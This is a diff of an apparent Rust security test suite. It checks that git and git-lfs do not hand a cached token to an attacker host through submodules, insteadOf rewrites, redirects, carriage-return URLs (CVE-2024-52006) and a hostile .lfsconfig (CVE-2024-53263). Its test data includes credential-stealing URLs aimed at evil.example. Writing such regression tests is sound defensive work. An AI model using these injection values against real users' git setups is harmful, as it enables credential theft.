@@ -3,18 +3,18 @@
 
 use std::fs;
 
-use super::scene::{Scene, assert_saw_no_token};
+use super::scene::{assert_saw_no_token, cached, careless_scene, clone_app};
 use crate::town::http::{Answer, Exchange};
 use crate::town::server::Server;
-use crate::town::{Git, Town};
+use crate::town::{Git, Ran, Town};
+use crate::transcript::REPOSITORY;
 
 /// A repository with a submodule on another host, cloned recursively.
 #[test]
 fn clone2leak_a_submodule_on_another_host() {
     for git in Git::all() {
-        let (scene, attacker) = (Scene::with(&git), Town::start());
-        scene.help_everywhere();
-        scene.clone_app();
+        let (scene, attacker) = (careless_scene(&git), Town::start());
+        clone_app(&scene);
         let url = attacker.github.url("acme/app");
         let modules = format!("[submodule \"sub\"]\n\tpath = sub\n\turl = {url}\n");
         scene.home.commit("app", ".gitmodules", modules.as_bytes());
@@ -23,9 +23,15 @@ fn clone2leak_a_submodule_on_another_host() {
         scene.home.git_in("app", &["update-index", "--add", "--cacheinfo", &entry]).assert_ok();
         scene.home.git_in("app", &["commit", "--quiet", "--message", "submodule"]).assert_ok();
         scene.home.git_in("app", &["push", "--quiet", "origin", "HEAD"]).assert_ok();
-        let ran = scene.home.git(&["clone", "--quiet", "--recursive", &scene.url(), "again"]);
+        let ran = scene.home.git(&[
+            "clone",
+            "--quiet",
+            "--recursive",
+            &scene.town.github.url(REPOSITORY),
+            "again",
+        ]);
         ran.assert_fails();
-        assert!(!ran.stderr.contains(&scene.token), "{ran:?}");
+        assert!(!ran.stderr.contains(&cached(&scene)), "{ran:?}");
         assert!(scene.home.path().join("again/.gitmodules").exists(), "the rest came\n{ran:?}");
         assert_saw_no_token(&attacker);
     }
@@ -36,9 +42,8 @@ fn clone2leak_a_submodule_on_another_host() {
 fn paperclip_10720_instead_of_rewrites_our_host() {
     for git in Git::all() {
         for key in ["insteadOf", "pushInsteadOf"] {
-            let (scene, attacker) = (Scene::with(&git), Town::start());
-            scene.help_everywhere();
-            scene.clone_app();
+            let (scene, attacker) = (careless_scene(&git), Town::start());
+            clone_app(&scene);
             scene.home.commit("app", "file", b"content");
             let evil = format!("url.http://{}/.{key}", attacker.github.host());
             let ours = format!("http://{}/", scene.town.github.host());
@@ -53,8 +58,7 @@ fn paperclip_10720_instead_of_rewrites_our_host() {
 #[test]
 fn a_git_host_that_redirects_to_another() {
     for git in Git::all() {
-        let (mut scene, attacker) = (Scene::with(&git), Town::start());
-        scene.help_everywhere();
+        let (mut scene, attacker) = (careless_scene(&git), Town::start());
         let url = format!("http://{}", attacker.github.host());
         let redirector = Server::start(0, move |stream| {
             let Ok(exchange) = Exchange::read_head(stream) else { return };
@@ -72,13 +76,12 @@ fn a_git_host_that_redirects_to_another() {
 #[test]
 fn cve_2024_52006_a_git_that_lets_carriage_returns_through() {
     for git in Git::all() {
-        let scene = Scene::with(&git);
-        scene.help_everywhere();
+        let scene = careless_scene(&git);
         for url in ["http://HOST%0d.evil.example/", "http://evil.example%0dhost=HOST/"] {
             let url = url.replace("HOST", &scene.town.github.host());
             let mut command = scene.home.command("git");
             command.args(["-c", "credential.protectProtocol=false", "credential", "fill"]);
-            let ran = crate::town::Ran::run(command, format!("url={url}\n\n").as_bytes());
+            let ran = Ran::run(command, format!("url={url}\n\n").as_bytes());
             ran.assert_fails();
             assert!(!ran.stdout.contains("password"), "{ran:?}");
         }
@@ -86,17 +89,19 @@ fn cve_2024_52006_a_git_that_lets_carriage_returns_through() {
         let mut command = scene.home.command("git");
         command.args(["credential", "fill"]);
         let honest = format!("url=http://{}/\n\n", scene.town.github.host());
-        let ran = crate::town::Ran::run(command, honest.as_bytes());
-        assert!(ran.assert_ok().stdout.contains(&scene.token), "{ran:?}");
+        let ran = Ran::run(command, honest.as_bytes());
+        assert!(ran.assert_ok().stdout.contains(&cached(&scene)), "{ran:?}");
     }
 }
 
 /// `.lfsconfig` comes with the repository and says where git-lfs asks.
 #[test]
 fn cve_2024_53263_a_hostile_lfsconfig_and_a_real_git_lfs() {
-    let (scene, attacker) = (Scene::new(), Town::start());
-    scene.help_everywhere();
-    scene.clone_app();
+    let (scene, attacker) = (careless_scene(&Git::newest()), Town::start());
+    if scene.home.git(&["lfs", "version"]).code != 0 {
+        return crate::town::skip("there is no git-lfs");
+    }
+    clone_app(&scene);
     let evil = attacker.github.host();
     let ours = scene.town.github.host();
     for url in [
@@ -110,7 +115,7 @@ fn cve_2024_53263_a_hostile_lfsconfig_and_a_real_git_lfs() {
         fs::write(scene.home.path().join("app/.lfsconfig"), config).expect("the clone is ours");
         let ran = scene.home.git_in("app", &["lfs", "locks"]);
         ran.assert_fails();
-        assert!(!format!("{ran:?}").contains(&scene.token), "{ran:?}");
+        assert!(!format!("{ran:?}").contains(&cached(&scene)), "{ran:?}");
     }
     assert_saw_no_token(&attacker);
 }
